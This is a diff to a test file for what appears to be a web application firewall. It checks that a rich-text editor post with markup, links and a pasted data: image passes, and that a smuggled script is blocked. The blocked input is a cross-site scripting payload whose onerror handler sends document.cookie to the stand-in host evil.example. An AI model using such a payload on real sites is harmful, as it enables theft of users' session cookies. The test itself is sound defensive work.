@@ -5,7 +5,8 @@
  * set, the form encodings it picks, a multipart upload of a real PNG it rendered, a JSON fetch, a
  * beacon — with what a user types: a review in three scripts with a link and emoji, an Irish address
  * with an apostrophe, a password full of punctuation, search-engine syntax. None may be blocked. Then
- * the same page with an injection typed in is blocked, so the run can tell the two apart.
+ * the same page with an injection typed in is blocked, so the run can tell the two apart. A rich-text
+ * editor page sends its innerHTML (markup, links, a pasted image as a data: URL), then a smuggled script.
  * The browser reaches 127.0.0.1 only: every other host name resolves to nothing.
  */
 import { existsSync, readFileSync } from 'node:fs';
@@ -29,6 +30,21 @@ const SHOP_HTML = `<!doctype html>
 <form id="upload" action="/account/avatar" method="post" enctype="multipart/form-data">
   <input type="file" name="avatar" id="avatar"><input name="caption" id="caption"><button id="send-avatar">Upload</button></form>
 <textarea id="review"></textarea><button id="send-review" type="button">Send review</button>
+</body></html>`;
+
+const EDITOR_HTML = `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>New post</title></head>
+<body>
+<input id="title" value="">
+<div id="editor" contenteditable="true"></div>
+<button id="publish" type="button">Publish</button>
+<script>
+document.getElementById('publish').addEventListener('click', () => {
+  fetch('/api/posts', { method: 'POST', headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ title: document.getElementById('title').value, html: document.getElementById('editor').innerHTML, status: 'draft' }) })
+    .then((r) => { document.title = 'published ' + r.status; });
+});
+</script>
 </body></html>`;
 
 const SHOP_CSS = `body { font: 16px/1.5 system-ui, sans-serif; margin: 2rem; } form { margin: 1rem 0; } .price::before { content: "€"; }`;
@@ -58,7 +74,7 @@ let browser: Browser;
 
 beforeAll(async () => {
   if (nginxBinary() === null || CHROMIUM === null) return;
-  nginx = await startNginx({ extraHtml: { 'shop.html': SHOP_HTML, 'shop.css': SHOP_CSS, 'shop.js': SHOP_JS, 'logo.svg': LOGO_SVG } });
+  nginx = await startNginx({ extraHtml: { 'shop.html': SHOP_HTML, 'shop.css': SHOP_CSS, 'shop.js': SHOP_JS, 'logo.svg': LOGO_SVG, 'editor.html': EDITOR_HTML } });
   warden = await startTestWarden(nginx.origin, { logging: { logAllowed: true } });
   browser = await chromium.launch({
     executablePath: CHROMIUM,
@@ -147,6 +163,33 @@ describe.skipIf(nginxBinary() === null || CHROMIUM === null)('a real browser thr
     const [attack] = await Promise.all([page.waitForNavigation(), page.click('#go')]);
     expect(attack?.status()).toBe(403);
     expect(await attack!.text()).toMatch(/Incident ID: <code>[0-9a-z]{16,}<\/code>/i);
+    await context.close();
+  }, 120_000);
+
+  it('passes a rich-text post as the browser editor writes it — markup, links, a list, a pasted image as a data: URL — and blocks a script smuggled into it', async () => {
+    const context = await browser.newContext({ locale: 'en-GB' });
+    const page = await context.newPage();
+    await page.goto(`${warden.origin}/static/editor.html`);
+    const png = (await page.screenshot({ clip: { x: 0, y: 0, width: 40, height: 30 } })).toString('base64');
+    await page.fill('#title', 'Release notes: v2.4 — "faster search" & fewer clicks');
+    // What an editor holds after a user typed, formatted, linked and pasted a picture.
+    const html =
+      '<h2>What\'s new</h2><p>Search is <strong>3× faster</strong> on large catalogues; see <a href="https://docs.example.com/search?v=2.4#ranking" target="_blank" rel="noopener">the ranking notes</a>.</p>' +
+      '<ul><li>Filters keep their state when you go back</li><li>Prices show in € and £</li><li><code>Ctrl</code> + <code>K</code> opens search</li></ul>' +
+      '<blockquote>Thanks to everyone who filed issues — 142 closed!</blockquote>' +
+      `<p><img src="data:image/png;base64,${png}" alt="screenshot of the new filter panel" width="40" height="30"></p><p><em>— the team</em></p>`;
+    // What the editor holds after a user typed, formatted, linked and pasted a picture; the page sends its innerHTML.
+    const setEditor = (value: string): Promise<void> => page.locator('#editor').evaluate((el, v) => void ((el as { innerHTML: string }).innerHTML = v), value);
+    await setEditor(html);
+    const publish = page.waitForResponse((r) => r.url().endsWith('/api/posts'));
+    await page.click('#publish');
+    expect((await publish).status()).toBe(200);
+    expect((await reachedNginx('/api/posts')).body).toContain('data:image/png;base64,');
+
+    await setEditor('<p>Nice post</p><img src=x onerror="fetch(`//evil.example/c?`+document.cookie)">');
+    const attack = page.waitForResponse((r) => r.url().endsWith('/api/posts'));
+    await page.click('#publish');
+    expect((await attack).status()).toBe(403);
     await context.close();
   }, 120_000);
 });
